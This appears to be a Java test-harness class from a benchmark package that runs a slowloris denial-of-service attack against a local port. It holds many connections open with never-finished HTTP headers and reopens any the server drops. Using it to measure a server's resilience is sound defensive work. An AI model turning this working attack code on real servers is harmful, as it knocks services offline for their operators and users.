package dev.overtime.bench;

import java.io.IOException;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.LongAdder;

/**
 * A slowloris attack: {@code count} connections to a port, each sending a request head one header
 * line at a time and never finishing it. A connection the server closes is opened again, as the
 * attack does, so {@code count} stay held for as long as the hold lasts.
 */
final class SlowlorisHold implements AutoCloseable {

    private static final byte[] START = "GET /2015-03-31/functions/ HTTP/1.1\r\nHost: localhost\r\n"
            .getBytes(StandardCharsets.ISO_8859_1);
    private static final byte[] DRIP = "X-Slow: 1\r\n".getBytes(StandardCharsets.ISO_8859_1);

    private final int port;
    private final List<Socket> sockets = new ArrayList<>();
    private final AtomicBoolean holding = new AtomicBoolean(true);
    private final LongAdder reopened = new LongAdder();
    private final Thread dripper;

    /** Opens the connections and starts dripping a header line into each, all of them once a second. */
    SlowlorisHold(int port, int count) throws IOException {
        this.port = port;
        for (int i = 0; i < count; i++) {
            sockets.add(open());
        }
        dripper = Thread.ofPlatform().daemon().name("slowloris").start(this::drip);
    }

    private Socket open() throws IOException {
        Socket socket = new Socket();
        socket.connect(new InetSocketAddress("127.0.0.1", port), 10_000);
        socket.getOutputStream().write(START);
        return socket;
    }

    private void drip() {
        while (holding.get()) {
            long start = System.nanoTime();
            for (int i = 0; i < sockets.size() && holding.get(); i++) {
                try {
                    OutputStream out = sockets.get(i).getOutputStream();
                    out.write(DRIP);
                    out.flush();
                } catch (IOException closedByServer) {
                    reopen(i);
                }
            }
            long left = 1_000_000_000L - (System.nanoTime() - start);
            if (left > 0) {
                java.util.concurrent.locks.LockSupport.parkNanos(left);
            }
        }
    }

    private void reopen(int i) {
        closeQuietly(sockets.get(i));
        try {
            sockets.set(i, open());
            reopened.increment();
        } catch (IOException e) {
            // Refused (the port's cap): tried again on the next drip.
        }
    }

    /** Connections the server closed and the attack opened again. */
    long reopened() {
        return reopened.sum();
    }

    @Override
    public void close() throws InterruptedException {
        holding.set(false);
        dripper.join(10_000);
        sockets.forEach(SlowlorisHold::closeQuietly);
    }

    private static void closeQuietly(Socket socket) {
        try {
            socket.close();
        } catch (IOException e) {
            // Going anyway.
        }
    }
}
